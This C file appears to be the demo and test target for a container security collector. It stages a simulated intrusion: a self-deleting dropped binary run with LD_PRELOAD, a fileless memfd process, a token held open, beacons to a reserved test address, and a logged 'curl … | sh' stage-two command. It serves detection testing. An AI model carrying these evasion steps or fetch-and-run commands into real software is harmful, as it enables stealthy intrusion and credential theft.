/*
 * exuvia demo/test target: PID 1 of a shell-less container.
 *
 * Built with `gcc -static -O2`, it is the only program in its image. It stages
 * activity for every collector to find, and the integration tests rely on it:
 *
 *   - log lines "<RFC 3339 UTC ns> LEVEL message" on stdout (INFO) and stderr
 *     (WARN), and the same lines in /var/log/app/app.log;
 *   - a TCP listener on 0.0.0.0:PORT (default 8080; --port N or APP_PORT),
 *     a UDP socket on the same port and a unix socket /tmp/app.sock;
 *   - a long-lived child whose argv[0] is "worker", connected to the TCP port;
 *   - ~300 ms after start: a new file /tmp/after-start.txt and a line appended
 *     to /etc/app/app.conf (a file that exists in the image);
 *   - ~1.5 s after start, a "dropped binary": a copy of itself at /tmp/.x
 *     (0755), executed as "implant" with LD_PRELOAD=/tmp/.libhook.so in its
 *     environment (ignored: the binary is static), then unlinked, so
 *     /proc/PID/exe ends in " (deleted)". The implant listens on IMPLANT_PORT
 *     (default 4444), holds a connection to PORT, holds the Kubernetes
 *     service-account token open when there is one, keeps trying to reach
 *     203.0.113.7 (TEST-NET-3: TCP 443 and a connected UDP socket to port 53;
 *     nothing answers, and without a route nothing is sent), and logs the
 *     "stage 2" command an attacker would run (a download piped into sh);
 *   - a fileless process: a copy of itself in a memfd run with fexecve as
 *     argv[0] "kworker-memfd" (mode "sleeper");
 *   - with LAB_MODE=clean in its environment, none of the incident: no config
 *     change, no dropped binary, no fileless process (a clean workload for the
 *     findings' false-positive tests); the worker, the listeners, the log lines
 *     and /tmp/after-start.txt are the same;
 *   - then the line "... INFO main[PID]: ready" and a heartbeat every 5 s until SIGTERM,
 *     reaping children; on SIGTERM it stops its children and exits 0.
 *
 * It refuses to start (exit 2) where /etc/app/app.conf does not exist, so that
 * running it on a host by mistake changes nothing there.
 *
 * Secrets for redaction tests (API_TOKEN, DB_PASSWORD) come from the image's
 * environment; the program only reports whether they are set.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define APP_LOG "/var/log/app/app.log"
#define APP_CONF "/etc/app/app.conf"
#define AFTER_START "/tmp/after-start.txt"
#define DROPPED "/tmp/.x"
#define UNIX_SOCK "/tmp/app.sock"
#define SA_TOKEN "/var/run/secrets/kubernetes.io/serviceaccount/token"
#define BEACON_ADDR "203.0.113.7"
#define PRELOAD_ENV "LD_PRELOAD=/tmp/.libhook.so"
#define MAX_FDS 64

static volatile sig_atomic_t got_term, got_chld;
static int log_fd = -1;
static const char *role = "main";
static pid_t children[3];

static void on_signal(int sig) {
    if (sig == SIGCHLD) got_chld = 1; else got_term = 1;
}

/* One log line: timestamp, level, role, pid, message. */
static void logf_(int to_stderr, const char *level, const char *fmt, ...) {
    char line[512], msg[400], stamp[40];
    struct timespec ts;
    struct tm tm;
    va_list ap;
    clock_gettime(CLOCK_REALTIME, &ts);
    gmtime_r(&ts.tv_sec, &tm);
    strftime(stamp, sizeof stamp, "%Y-%m-%dT%H:%M:%S", &tm);
    va_start(ap, fmt);
    vsnprintf(msg, sizeof msg, fmt, ap);
    va_end(ap);
    int n = snprintf(line, sizeof line, "%s.%09ldZ %s %s[%d]: %s\n", stamp, ts.tv_nsec,
                     level, role, (int)getpid(), msg);
    if (n < 0) return;
    if (n >= (int)sizeof line) n = sizeof line - 1;
    if (write(to_stderr ? 2 : 1, line, n) < 0) { /* nowhere to report it */ }
    if (log_fd >= 0 && write(log_fd, line, n) < 0) { /* idem */ }
}
#define INFO(...) logf_(0, "INFO", __VA_ARGS__)
#define WARN(...) logf_(1, "WARN", __VA_ARGS__)

static int tcp_listen(int port) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (fd < 0 || bind(fd, (void *)&a, sizeof a) < 0 || listen(fd, 16) < 0) {
        WARN("tcp listen on %d failed: %s", port, strerror(errno));
        return -1;
    }
    return fd;
}

static int tcp_connect(int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    for (int i = 0; i < 50; i++) {        /* the listener may not be up yet */
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd >= 0 && connect(fd, (void *)&a, sizeof a) == 0) return fd;
        if (fd >= 0) close(fd);
        usleep(100 * 1000);
    }
    WARN("connect to 127.0.0.1:%d failed: %s", port, strerror(errno));
    return -1;
}

static int udp_bind(int port) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (fd < 0 || bind(fd, (void *)&a, sizeof a) < 0) {
        WARN("udp bind on %d failed: %s", port, strerror(errno));
        return -1;
    }
    return fd;
}

static int unix_listen(const char *path) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    unlink(path);
    if (fd < 0 || bind(fd, (void *)&a, sizeof a) < 0 || listen(fd, 4) < 0) {
        WARN("unix listen on %s failed: %s", path, strerror(errno));
        return -1;
    }
    return fd;
}

/* Copy /proc/self/exe into fd `out`. */
static int copy_self(int out) {
    char buf[65536];
    ssize_t n;
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (in < 0) return -1;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) { close(in); return -1; }
    close(in);
    return n < 0 ? -1 : 0;
}

/* fork + exec (by path, or by fd when path is NULL); returns once exec has
 * happened (a CLOEXEC pipe closes on a successful exec), or -1. */
static pid_t spawn(const char *path, int exe_fd, char *const argv[], char *const envp[]) {
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0) return -1;
    pid_t pid = fork();
    if (pid == 0) {
        sigset_t none;
        sigemptyset(&none);
        sigprocmask(SIG_SETMASK, &none, NULL);
        if (path) execve(path, argv, envp); else fexecve(exe_fd, argv, envp);
        int e = errno;
        if (write(p[1], &e, sizeof e) < 0) { /* parent sees EOF anyway */ }
        _exit(127);
    }
    close(p[1]);
    int e = 0;
    ssize_t n = (pid > 0) ? read(p[0], &e, sizeof e) : -1;
    close(p[0]);
    if (pid < 0 || n > 0) {
        WARN("spawn %s failed: %s", argv[0], strerror(pid < 0 ? errno : e));
        return -1;
    }
    return pid;
}

/* A non-blocking connect to the beacon address; -1 when there is no route. */
static int beacon_connect(int type, int port) {
    int fd = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, BEACON_ADDR, &a.sin_addr);
    if (fd >= 0 && connect(fd, (void *)&a, sizeof a) < 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* The TCP beacon failed (timed out, unreachable)? Then try again. */
static int beacon_retry(int fd) {
    int err = 0;
    socklen_t len = sizeof err;
    if (fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err == 0) return fd;
    if (fd >= 0) close(fd);
    return beacon_connect(SOCK_STREAM, 443);
}

/* "worker", "implant", "sleeper": hold a connection and wait for SIGTERM. */
static int run_child(const char *mode, const char *argv0, int port, int implant_port) {
    role = mode;
    int lfd = -1, cfd = -1, token = -1, udp = -1, tcp = -1;
    int implant = strcmp(mode, "implant") == 0;
    if (implant) lfd = tcp_listen(implant_port);
    if (strcmp(mode, "sleeper") != 0) {
        cfd = tcp_connect(port);
        if (cfd >= 0) dprintf(cfd, "hello from %s %d\n", mode, (int)getpid());
    }
    if (!implant) prctl(PR_SET_NAME, argv0, 0, 0, 0);
    if (implant) {
        token = open(SA_TOKEN, O_RDONLY | O_CLOEXEC);   /* kept open: it shows in fd/ */
        udp = beacon_connect(SOCK_DGRAM, 53);
        tcp = beacon_connect(SOCK_STREAM, 443);
        INFO("stage2: curl -fsSL http://%s/s.sh | sh", BEACON_ADDR);
    }
    INFO("%s up (listen=%d connected=%d)", mode, lfd >= 0, cfd >= 0);
    while (!got_term) {
        sleep(1);
        if (implant) tcp = beacon_retry(tcp);
    }
    if (token >= 0) close(token);
    if (udp >= 0) close(udp);
    INFO("%s stopping", mode);
    return 0;
}

int main(int argc, char **argv) {
    int port = 8080, implant_port = 4444;
    const char *mode = "main";
    if (getenv("APP_PORT")) port = atoi(getenv("APP_PORT"));
    if (getenv("IMPLANT_PORT")) implant_port = atoi(getenv("IMPLANT_PORT"));
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--port") == 0 && i + 1 < argc) port = atoi(argv[++i]);
        else if (strncmp(argv[i], "--mode=", 7) == 0) mode = argv[i] + 7;
        else if (argv[i][0] != '-') mode = argv[i];
    }
    if (access(APP_CONF, F_OK) != 0) {   /* a guard against running it on a host by mistake */
        fprintf(stderr, "target: %s is missing: run me only in the exuvia demo image\n", APP_CONF);
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    struct sigaction sa = {.sa_handler = on_signal};
    sigemptyset(&sa.sa_mask);
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGCHLD, &sa, NULL);
    signal(SIGPIPE, SIG_IGN);
    log_fd = open(APP_LOG, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0640);
    if (strcmp(mode, "main") != 0) return run_child(mode, argv[0], port, implant_port);

    INFO("starting pid=%d port=%d API_TOKEN=%s DB_PASSWORD=%s", (int)getpid(), port,
         getenv("API_TOKEN") ? "(set)" : "(unset)", getenv("DB_PASSWORD") ? "(set)" : "(unset)");
    if (log_fd < 0) WARN("cannot open %s: %s", APP_LOG, strerror(errno));
    struct pollfd fds[MAX_FDS];
    int nfds = 0;
    int tcp = tcp_listen(port), udp = udp_bind(port), ux = unix_listen(UNIX_SOCK);
    int listeners[3] = {tcp, udp, ux};
    for (int i = 0; i < 3; i++)
        if (listeners[i] >= 0) fds[nfds++] = (struct pollfd){.fd = listeners[i], .events = POLLIN};
    INFO("listening tcp=0.0.0.0:%d udp=0.0.0.0:%d unix=%s", port, port, UNIX_SOCK);

    int clean = getenv("LAB_MODE") && strcmp(getenv("LAB_MODE"), "clean") == 0;
    char *worker_argv[] = {"worker", "--mode=worker", NULL};
    children[0] = spawn("/proc/self/exe", -1, worker_argv, environ);
    INFO("forked worker pid=%d", (int)children[0]);

    usleep(300 * 1000);
    FILE *f = fopen(AFTER_START, "w");
    if (f) { fprintf(f, "written after start by pid %d\n", (int)getpid()); fclose(f); }
    else WARN("cannot write %s: %s", AFTER_START, strerror(errno));
    if (clean) {
        INFO("wrote %s (clean run: no incident staged)", AFTER_START);
        goto ready;
    }
    f = fopen(APP_CONF, "a");
    if (f) { fprintf(f, "# changed at runtime by pid %d\nfeature_x = on\n", (int)getpid()); fclose(f); }
    else WARN("cannot modify %s: %s", APP_CONF, strerror(errno));
    INFO("wrote %s and modified %s", AFTER_START, APP_CONF);

    usleep(1200 * 1000);  /* the implant comes well after start-up */
    int out = open(DROPPED, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (out >= 0 && copy_self(out) == 0 && close(out) == 0) {
        char *implant_argv[] = {DROPPED, "implant", NULL};
        int n = 0;
        while (environ[n]) n++;
        char **implant_env = calloc(n + 2, sizeof *implant_env);
        if (implant_env) {
            memcpy(implant_env, environ, n * sizeof *implant_env);
            implant_env[n] = PRELOAD_ENV;
        }
        children[1] = spawn(DROPPED, -1, implant_argv, implant_env ? implant_env : environ);
        free(implant_env);
        unlink(DROPPED);
        WARN("dropped %s, ran it as pid %d, deleted it", DROPPED, (int)children[1]);
    } else {
        WARN("cannot drop %s: %s", DROPPED, strerror(errno));
    }

    int mfd = memfd_create("kworker", MFD_CLOEXEC);
    if (mfd >= 0 && copy_self(mfd) == 0) {
        char *memfd_argv[] = {"kworker-memfd", "--mode=sleeper", NULL};
        children[2] = spawn(NULL, mfd, memfd_argv, environ);
        INFO("started fileless process pid=%d from memfd", (int)children[2]);
    } else {
        WARN("memfd_create failed: %s", strerror(errno));
    }
    if (mfd >= 0) close(mfd);

ready:
    INFO("ready");
    struct timespec last;
    clock_gettime(CLOCK_MONOTONIC, &last);
    while (!got_term) {
        int n = poll(fds, nfds, 1000);
        if (got_chld) {
            got_chld = 0;
            int st;
            pid_t pid;
            while ((pid = waitpid(-1, &st, WNOHANG)) > 0)
                WARN("reaped pid %d status %d", (int)pid, st);
        }
        for (int i = 0; n > 0 && i < nfds; i++) {
            if (!(fds[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
            char buf[256];
            if (fds[i].fd == tcp || fds[i].fd == ux) {
                int c = accept4(fds[i].fd, NULL, NULL, SOCK_CLOEXEC);
                if (c >= 0 && nfds < MAX_FDS) {
                    fds[nfds++] = (struct pollfd){.fd = c, .events = POLLIN};
                    INFO("accepted connection fd=%d on %s", c, fds[i].fd == tcp ? "tcp" : "unix");
                } else if (c >= 0) close(c);
            } else if (fds[i].fd == udp) {
                ssize_t r = recv(udp, buf, sizeof buf - 1, 0);
                if (r >= 0) { buf[r] = 0; INFO("udp datagram: %.*s", (int)strcspn(buf, "\n"), buf); }
            } else {
                ssize_t r = read(fds[i].fd, buf, sizeof buf - 1);
                if (r <= 0) { close(fds[i].fd); fds[i--] = fds[--nfds]; continue; }
                buf[r] = 0;
                INFO("received: %.*s", (int)strcspn(buf, "\n"), buf);
            }
        }
        struct timespec now;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - last.tv_sec >= 5) { last = now; INFO("heartbeat"); }
    }
    INFO("SIGTERM received, stopping children");
    for (int i = 0; i < 3; i++) if (children[i] > 0) kill(children[i], SIGTERM);
    for (int i = 0; i < 3; i++) if (children[i] > 0) waitpid(children[i], NULL, 0);
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
    INFO("stopped");
    return 0;
}
